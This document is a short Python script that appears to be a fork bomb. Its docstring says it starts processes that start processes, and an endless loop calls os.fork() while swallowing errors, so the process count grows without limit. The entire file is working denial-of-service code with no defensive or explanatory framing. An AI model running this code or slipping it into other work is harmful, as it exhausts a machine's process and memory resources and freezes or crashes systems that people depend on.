"""Starts processes that start processes, and goes on when it may not."""
import os

while True:
    try:
        os.fork()
    except (OSError, AttributeError):
        pass
